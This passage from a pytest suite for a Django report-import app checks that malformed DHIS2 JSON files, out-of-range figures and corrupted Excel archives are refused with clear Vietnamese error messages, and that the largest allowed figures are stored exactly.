        (dhis2(0).replace(b'"value": 0', b'"value": ' + b"9" * 5000), "quá nhiều chữ số"),
        (b'{"dataValues": [{"dataElement": "CT18", "value": "95,6",}]}', "dòng 1, cột 57"),
        (b'{"dataValues": [{"dataElement": "CT18", \xff}]}', "UTF-8"),
        (dhis2("96", comment="Theo báo cáo\u0000"), "ký tự NUL"),
        (dhis2("96", comment="Theo báo cáo ?").replace(b"?", b"\\ud83d"), "UTF-16"),
    ],
    ids=["nested-200000-deep", "5000-digit-integer", "malformed", "not-utf8", "nul", "half-pair"],
)
def test_a_dhis2_json_file_that_cannot_be_read_is_refused_in_vietnamese(
    half_year, reporter, unchanged, data, reason
):
    problems = upload(data, "dhis2.json", reporter)
    assert len(problems) == 1 and reason in problems[0].message, where(problems)
    assert not re.search(r"Expecting|line \d|Exceeds|maximum recursion", problems[0].message)


@pytest.mark.parametrize(
    "value",
    ["1e999999999", 1e300, "1234567890123456", "0,00001", 10**20],
    ids=["1e999999999", "1e300-as-a-number", "16-digits", "5-decimals", "21-digit-integer"],
)
def test_a_figure_beyond_what_the_database_holds_is_refused_with_the_bound(
    half_year, reporter, unchanged, value
):
    problems = upload(dhis2(value), "dhis2.json", reporter)
    assert [p.where for p in problems] == ["giá trị thứ 1"]
    assert "tối đa 15 chữ số, trong đó tối đa 4 chữ số sau dấu thập phân" in problems[0].message


def test_a_nested_value_in_a_dhis2_file_is_refused_not_turned_into_text(
    half_year, reporter, unchanged
):
    problems = upload(dhis2({"giá trị": 96}), "dhis2.json", reporter)
    assert [p.message for p in problems] == [
        "“value” phải là chuỗi văn bản hoặc số, không được là danh sách hay đối tượng."
    ]


def test_a_figure_of_15_digits_4_of_them_decimals_is_stored_exactly(programme):
    """The largest figures both databases hold digit for digit: SQLite keeps 15 significant.
    CT31 is the Department of S&T's spending on science in tỷ đồng, its 2025 report returned."""
    Submission.objects.filter(form__code="BCN-KHCN", period="2025").update(state="returned")
    for figure, expected in (("12345678901,2345", "12345678901.2345"), ("999999999999999", "")):
        data = csv_bytes(["SKHCN", "2025", "CT31", "", figure])
        assert upload(data, "kinh-phi.csv", user("thuongtruc")) == []
        value = stored("SKHCN", "CT31", period="2025").value
        assert value == Decimal(expected or figure) and str(value.normalize()) == (
            expected or figure
        )


def test_an_unreadable_json_file_stops_the_import_command_with_the_reason(db, tmp_path):
    from django.core.management import CommandError, call_command

    path = tmp_path / "dhis2.json"
    path.write_bytes(b'{"dataValues": ' + b"[" * 200_000 + b"]" * 200_000 + b"}")
    with pytest.raises(CommandError, match="lồng nhau quá sâu"):
        call_command("import_data", str(path), "--user", "thuongtruc")


def damaged_inside(data: bytes, how: str) -> bytes:
    """The workbook with its data sheet's part damaged in the archive, its listing intact."""
    damaged = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    if how == "checksum":
        damaged[start + info.compress_size // 2] ^= 0xFF
    elif how == "stream":
        damaged[start + 5] ^= 0xFF
    else:  # marked encrypted in its entry of the central directory
        listing = bytes(damaged).find(b"PK\x01\x02")
        entry = bytes(damaged).find(info.filename.encode(), listing) - 46
        damaged[entry + 8] |= 1
    return bytes(damaged)


@pytest.mark.parametrize("how", ["checksum", "stream", "encrypted"])
def test_a_workbook_damaged_inside_its_archive_is_refused_as_damaged(
    half_year, reporter, unchanged, how
):
    data = damaged_inside(workbook(half_year, "006", HALF_YEAR), how)
    problems = upload(data, "bc.xlsx", reporter)
    assert [p.message for p in problems] == ["Tệp Excel bị hỏng, không đọc được."]
